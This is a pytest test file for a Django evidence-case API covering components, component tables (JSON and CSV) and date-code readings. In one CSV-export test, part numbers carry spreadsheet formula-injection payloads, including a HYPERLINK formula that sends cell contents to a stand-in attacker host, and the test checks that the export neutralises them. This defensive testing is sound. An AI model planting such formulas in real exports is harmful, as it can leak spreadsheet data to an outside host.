"""Components, a case's component table (JSON and CSV) and date-code readings through the API."""

from __future__ import annotations

import csv
import io

import pytest

from evidence.models import Component, CustodyEvent, DateCodeReading
from evidence.services.components import record_component, record_reading
from tests.api.test_endpoints import assert_error
from tests.factories import EvidenceItemFactory, ManufacturerFactory, MarkingFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def item(team):
    return EvidenceItemFactory(case=team.case, kind="component")


@pytest.fixture
def maker():
    return ManufacturerFactory(name="Analog Devices", legal_name="Analog Devices, Inc.", country="United States")


def make_component(team, item, **extra):
    fields = {"function": "processing", "part_number": "AD7541AKN", **extra}
    return record_component(actor=team.alice, item=item, **fields)


class TestComponents:
    url = "/api/v1/components/"

    def test_an_analyst_records_one_with_its_markings_and_everyone_on_the_case_reads_it(self, api, team, item, maker):
        marking = MarkingFactory(item=item)
        body = {"item": item.pk, "function": "processing", "designator": "U7", "manufacturer": maker.pk,
                "part_number": "AD7541AKN", "lot_code": "L2312", "markings": [marking.pk]}  # fmt: skip
        response = api(team.bob).post(self.url, body, format="json")
        assert response.status_code == 201, response.content
        data = response.json()
        assert data["markings"] == [marking.pk]
        assert data["case"] == team.case.pk
        assert data["manufacturer_name"] == "Analog Devices"
        assert data["manufacturer_legal_name"] == "Analog Devices, Inc."
        assert data["manufacturer_country"] == "United States"
        assert data["readings"] == []
        assert data["distributor"] is None
        assert CustodyEvent.objects.filter(subject_type="component", subject_id=data["id"]).exists()

        seen = api(team.vera).get(f"{self.url}{data['id']}/")
        assert seen.status_code == 200
        assert seen.json()["designator"] == "U7"
        assert_error(api(team.charlie).get(f"{self.url}{data['id']}/"), 404)
        assert api(team.charlie).get(self.url).json()["results"] == []

    def test_a_viewer_cannot_record_one(self, api, team, item):
        response = api(team.vera).post(self.url, {"item": item.pk, "function": "power"}, format="json")
        assert_error(response, 403)
        assert not Component.objects.exists()

    def test_bad_input_is_a_400_naming_the_field(self, api, team, item):
        client = api(team.bob)
        other = EvidenceItemFactory(case=team.other_case, kind="component")
        assert_error(client.post(self.url, {"item": other.pk, "function": "power"}, format="json"), 400, field="item")
        assert_error(
            client.post(self.url, {"item": item.pk, "function": "laser"}, format="json"), 400, field="function"
        )
        foreign = MarkingFactory(item=other, actor=team.charlie)
        body = {"item": item.pk, "function": "power", "markings": [foreign.pk]}
        assert_error(client.post(self.url, body, format="json"), 400, field="markings")

    def test_a_correction_needs_a_reason_and_the_item_stays(self, api, team, item):
        component = make_component(team, item)
        client, url = api(team.bob), f"{self.url}{component.pk}/"
        assert_error(client.patch(url, {"lot_code": "L9"}, format="json"), 400, field="reason")
        response = client.patch(url, {"lot_code": "L9", "reason": "misread"}, format="json")
        assert response.status_code == 200, response.content
        assert response.json()["lot_code"] == "L9"
        other_item = EvidenceItemFactory(case=team.case, kind="component")
        assert_error(client.patch(url, {"item": other_item.pk, "reason": "x"}, format="json"), 400, field="item")
        marking = MarkingFactory(item=item)
        response = client.patch(url, {"markings": [marking.pk]}, format="json")
        assert response.status_code == 200, response.content
        assert response.json()["markings"] == [marking.pk]

    def test_withdraw(self, api, team, item):
        component = make_component(team, item)
        url = f"{self.url}{component.pk}/withdraw/"
        assert_error(api(team.vera).post(url, {"reason": "duplicate"}, format="json"), 403)
        assert_error(api(team.bob).post(url, {}, format="json"), 400, field="reason")
        response = api(team.bob).post(url, {"reason": "duplicate"}, format="json")
        assert response.status_code == 200
        assert response.json()["withdrawn_at"]
        assert response.json()["withdrawal_reason"] == "duplicate"
        assert api(team.bob).get(self.url, {"withdrawn": "false"}).json()["results"] == []

    def test_filters(self, api, team, item, maker):
        china = ManufacturerFactory(name="GigaDevice", country="China")
        first = make_component(team, item, manufacturer=maker, lot_code="L1")
        second = make_component(team, item, manufacturer=china, part_number="GD32F103", function="guidance")
        client = api(team.vera)

        def ids(**query):
            response = client.get(self.url, query)
            assert response.status_code == 200, response.content
            return [row["id"] for row in response.json()["results"]]

        assert ids(case=team.case.pk) == [first.pk, second.pk]
        assert ids(case=team.other_case.pk) == []
        assert ids(country="china") == [second.pk]
        assert ids(manufacturer=maker.pk) == [first.pk]
        assert ids(part_number="gd32f103") == [second.pk]
        assert ids(lot_code="L1") == [first.pk]
        assert ids(function="guidance") == [second.pk]
        assert ids(item=item.pk) == [first.pk, second.pk]
        assert_error(client.get(self.url, {"function": "laser"}), 400, field="function")


class TestComponentTable:
    def test_the_table_as_json_and_its_summary(self, api, team, item, maker):
        component = make_component(team, item, manufacturer=maker, designator="U1")
        record_reading(actor=team.alice, component=component, raw_code="2231")
        client = api(team.vera)
        response = client.get(f"/api/v1/cases/{team.case.pk}/components/")
        assert response.status_code == 200, response.content
        [row] = response.json()
        assert row["component"] == component.pk
        assert row["exhibit"] == item.exhibit_number
        assert row["country"] == "United States"
        assert row["date_codes"] == "2231"
        assert row["earliest"] is not None

        summary = client.get(f"/api/v1/cases/{team.case.pk}/components/summary/")
        assert summary.status_code == 200, summary.content
        assert summary.json()["total"] == 1
        assert summary.json()["by_country"] == {"United States": 1}

    @pytest.mark.parametrize("how", ["query", "accept"])
    def test_the_csv_neutralises_formulas(self, api, team, item, maker, how):
        make_component(team, item, manufacturer=maker, part_number='=HYPERLINK("https://evil.example/?"&A1,"x")')
        make_component(team, item, part_number="+SUM(A1:A9)", designator="-U2", lot_code="@L1")
        client = api(team.vera)
        url = f"/api/v1/cases/{team.case.pk}/components/"
        response = client.get(url, {"format": "csv"}) if how == "query" else client.get(url, HTTP_ACCEPT="text/csv")
        assert response.status_code == 200, response.content
        assert response["Content-Type"].startswith("text/csv")
        assert "attachment" in response["Content-Disposition"]
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert rows[0][:3] == ["component", "exhibit", "designator"]
        header = rows[0]
        first, second = (dict(zip(header, row, strict=True)) for row in rows[1:])
        assert first["part_number"] == '\'=HYPERLINK("https://evil.example/?"&A1,"x")'
        assert first["manufacturer"] == "Analog Devices"
        assert second["part_number"] == "'+SUM(A1:A9)"
        assert second["designator"] == "'-U2"
        assert second["lot_code"] == "'@L1"
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), cell

    @pytest.mark.parametrize("value", ["", "xml", "api", "CSV"])
    def test_a_format_other_than_json_or_csv_is_a_400_naming_it(self, api, team, value):
        # The schema's enum is json and csv; the fuzzer found `?format=` answered 200.
        response = api(team.vera).get(f"/api/v1/cases/{team.case.pk}/components/", {"format": value})
        assert response["Content-Type"].startswith("application/json")
        assert_error(response, 400, field="format")
        assert_error(api(team.charlie).get(f"/api/v1/cases/{team.case.pk}/components/", {"format": value}), 404)
        assert_error(api(None).get(f"/api/v1/cases/{team.case.pk}/components/", {"format": value}), 401)

    def test_an_outsider_gets_a_json_404_even_asking_for_csv(self, api, team):
        response = api(team.charlie).get(f"/api/v1/cases/{team.case.pk}/components/", {"format": "csv"})
        assert response["Content-Type"].startswith("application/json")
        assert_error(response, 404, "not_found")
        assert_error(api(team.charlie).get(f"/api/v1/cases/{team.case.pk}/components/summary/"), 404)


class TestDateReadings:
    url = "/api/v1/date-readings/"

    def test_record_verify_by_another_and_withdraw(self, api, team, item):
        component = make_component(team, item)
        response = api(team.bob).post(self.url, {"component": component.pk, "raw_code": "2231"}, format="json")
        assert response.status_code == 201, response.content
        data = response.json()
        assert data["windows"]
        assert data["earliest"] <= data["latest"]
        assert data["recorded_by"] == "bob"
        assert data["verified_by"] is None
        url = f"{self.url}{data['id']}/"

        assert_error(api(team.bob).post(f"{url}verify/", format="json"), 403)  # four eyes
        assert_error(api(team.vera).post(f"{url}verify/", format="json"), 403)
        verified = api(team.alice).post(f"{url}verify/", format="json")
        assert verified.status_code == 200
        assert verified.json()["verified_by"] == "alice"

        assert api(team.vera).get(self.url, {"verified": "true"}).json()["count"] == 1
        assert_error(api(team.charlie).post(f"{url}withdraw/", {"reason": "x"}, format="json"), 404)
        withdrawn = api(team.bob).post(f"{url}withdraw/", {"reason": "wrong part"}, format="json")
        assert withdrawn.status_code == 200
        assert withdrawn.json()["withdrawn_at"]

    def test_bad_input_is_a_400_naming_the_field(self, api, team, item):
        component = make_component(team, item)
        client = api(team.bob)
        assert_error(client.post(self.url, {"component": component.pk, "raw_code": ""}, format="json"), 400,
                     field="raw_code")  # fmt: skip
        assert_error(client.post(self.url, {"component": component.pk, "raw_code": "   "}, format="json"), 400,
                     field="raw_code")  # fmt: skip
        other_item = EvidenceItemFactory(case=team.other_case, kind="component")
        other = record_component(actor=team.charlie, item=other_item, function="power")
        assert_error(client.post(self.url, {"component": other.pk, "raw_code": "2231"}, format="json"), 400,
                     field="component")  # fmt: skip
        body = {"component": component.pk, "raw_code": "2231", "rule": "NOPE"}
        assert_error(client.post(self.url, body, format="json"), 400, field="rule")
        assert not DateCodeReading.objects.exists()
